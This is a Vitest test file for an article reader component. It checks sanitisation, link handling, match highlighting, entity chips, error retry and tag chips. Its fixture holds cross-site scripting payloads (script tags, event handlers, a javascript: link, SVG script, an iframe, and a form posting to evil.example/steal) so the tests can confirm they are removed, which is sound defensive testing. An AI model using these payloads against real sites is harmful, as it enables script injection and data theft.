// @vitest-environment jsdom
import { afterEach, describe, expect, it } from 'vitest';
import { cleanup, fireEvent, screen, within } from '@testing-library/react';
import type { ArticleId } from '../../../preload/api';
import { Reader } from './reader';
import { createFakeClient, makeArticle } from '../test/fake-client';
import { renderWithClient } from '../test/render-with-client';

afterEach(cleanup);

const MALICIOUS = `
  <p id="first">Intro <a href="https://evil.example/phish" target="_blank">read more</a>.</p>
  <script>window.__pwned = true</script>
  <img src="x" onerror="window.__pwned = true">
  <img src="https://tracker.example/pixel.gif" alt="tracker">
  <img src="data:image/png;base64,iVBORw0KGgo=" alt="inline chart">
  <iframe src="https://evil.example/frame"></iframe>
  <form action="https://evil.example/steal"><input name="q"><button>Go</button></form>
  <p style="position:fixed;inset:0" onclick="window.__pwned = true">Styled paragraph</p>
  <a href="javascript:window.__pwned=true">js link</a>
  <svg><script>window.__pwned = true</script></svg>
  <p>The export controls on GPUs were exported again; EXPORTS rose.</p>
`;

function renderReader(html: string, highlightTerms: string[] = []) {
  const client = createFakeClient({ articles: [makeArticle(7, { title: 'A hostile page', html })] });
  renderWithClient(
    <Reader
      opened={{ id: 7 as ArticleId, highlightTerms }}
      libraryVersion={0}
      onPickTag={() => {}}
      onPickEntity={() => {}}
    />,
    client,
  );
  return client;
}

describe('reader', () => {
  it('shows the empty state when nothing is open', () => {
    renderWithClient(
      <Reader opened={null} libraryVersion={0} onPickTag={() => {}} onPickEntity={() => {}} />,
      createFakeClient(),
    );
    expect(screen.getByTestId('reader-empty').textContent).toMatch(/Nothing open/);
  });

  it('sanitizes a malicious body: no script, handlers, frames, forms, style or remote images', async () => {
    renderReader(MALICIOUS);
    await screen.findByTestId('reader-title');
    const body = screen.getByTestId('reader-body');

    expect(body.querySelector('script, iframe, form, input, button, svg, style')).toBeNull();
    expect(body.innerHTML).not.toMatch(/onerror|onclick|javascript:|style=/i);
    const images = [...body.querySelectorAll('img')];
    expect(images.map((img) => img.getAttribute('src'))).toEqual([null, null, 'data:image/png;base64,iVBORw0KGgo=']);
    expect(body.querySelector('a')?.getAttribute('target')).toBeNull();
    expect(body.textContent).toContain('Styled paragraph');
    expect((window as unknown as { __pwned?: boolean }).__pwned).toBeUndefined();
  });

  it('never navigates on a link click; it shows the URL with a copy button instead', async () => {
    renderReader(MALICIOUS);
    await screen.findByTestId('reader-title');
    const before = window.location.href;
    const link = within(screen.getByTestId('reader-body')).getByText('read more');

    const notCancelled = fireEvent.click(link);
    expect(notCancelled).toBe(false);
    expect(fireEvent(link, new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 1 }))).toBe(false);
    expect(window.location.href).toBe(before);
    const status = screen.getByTestId('link-status');
    expect(status.textContent).toContain('https://evil.example/phish');
    expect(within(status).getByTestId('copy-link')).toBeTruthy();
  });

  it('marks the query terms in the text and steps through the matches', async () => {
    renderReader(MALICIOUS, ['export']);
    await screen.findByTestId('reader-title');
    const marks = [...screen.getByTestId('reader-body').querySelectorAll('mark.reader-match')];
    expect(marks.map((m) => m.textContent)).toEqual(['export', 'exported', 'EXPORTS']);
    expect(screen.getByTestId('match-count').textContent).toBe('Match 1 of 3');
    expect(marks[0]?.classList.contains('is-current')).toBe(true);

    fireEvent.click(screen.getByTestId('match-next'));
    expect(screen.getByTestId('match-count').textContent).toBe('Match 2 of 3');
    expect(marks[1]?.classList.contains('is-current')).toBe(true);
    fireEvent.click(screen.getByTestId('match-prev'));
    fireEvent.click(screen.getByTestId('match-prev'));
    expect(screen.getByTestId('match-count').textContent).toBe('Match 3 of 3');
  });

  it('shows provenance and entity chips grouped by type', async () => {
    const client = createFakeClient({
      articles: [
        makeArticle(3, {
          entities: [
            { id: 1 as never, name: 'Nvidia', type: 'organisation', mentions: 4 },
            { id: 2 as never, name: 'H20', type: 'product', mentions: 2 },
          ],
        }),
      ],
    });
    renderWithClient(
      <Reader
        opened={{ id: 3 as ArticleId, highlightTerms: [] }}
        libraryVersion={0}
        onPickTag={() => {}}
        onPickEntity={() => {}}
      />,
      client,
    );
    const info = await screen.findByTestId('reader-info');
    expect(info.textContent).toContain('article-3.html');
    expect(info.textContent).toContain('ab'.repeat(32));
    expect(info.textContent).toContain('2.0 kB');
    expect(screen.getAllByTestId('entity-chip').map((c) => [c.dataset.name, c.dataset.type])).toEqual([
      ['Nvidia', 'organisation'],
      ['H20', 'product'],
    ]);
  });

  it('shows the error and retries when the article cannot be read', async () => {
    renderWithClient(
      <Reader
        opened={{ id: 99 as ArticleId, highlightTerms: [] }}
        libraryVersion={0}
        onPickTag={() => {}}
        onPickEntity={() => {}}
      />,
      createFakeClient({ total: 1 }),
    );
    const alert = await screen.findByRole('alert');
    expect(alert.textContent).toContain('There is no article 99');
    expect(within(alert).getByRole('button', { name: 'Retry' })).toBeTruthy();
  });

  it('shows the tags once, as one row of chips that filter, remove, and an add button', async () => {
    const picked: string[] = [];
    const client = createFakeClient({
      articles: [makeArticle(5, { tags: ['chips', 'story/tiktok'] })],
      overrides: {
        untagArticles: async ({ ids, tags }) =>
          ids.map((id) => ({ id, tags: ['chips', 'story/tiktok'].filter((t) => !tags.includes(t)) })),
      },
    });
    renderWithClient(
      <Reader
        opened={{ id: 5 as ArticleId, highlightTerms: [] }}
        libraryVersion={0}
        onPickTag={(t) => picked.push(t)}
        onPickEntity={() => {}}
      />,
      client,
    );
    await screen.findByTestId('reader-title');

    expect(screen.getAllByTestId('reader-tags')).toHaveLength(1);
    expect(screen.getByTestId('reader').textContent?.match(/#chips/g)).toHaveLength(1);
    expect(screen.getAllByTestId('reader-tag').map((t) => t.dataset.name)).toEqual(['chips', 'story/tiktok']);
    const removes = screen.getAllByRole('button', { name: /^Remove tag / });
    expect(removes.map((b) => b.getAttribute('aria-label'))).toEqual(['Remove tag chips', 'Remove tag story/tiktok']);

    fireEvent.click(screen.getAllByTestId('reader-tag')[1] as HTMLElement);
    expect(picked).toEqual(['story/tiktok']);
    fireEvent.click(removes[0] as HTMLElement);
    expect(client.calls.filter((c) => c.method === 'untagArticles').map((c) => c.args)).toEqual([
      { ids: [5], tags: ['chips'] },
    ]);

    fireEvent.click(screen.getByTestId('reader-tag-add'));
    expect(screen.getByTestId('tag-dialog')).toBeTruthy();
  });
});
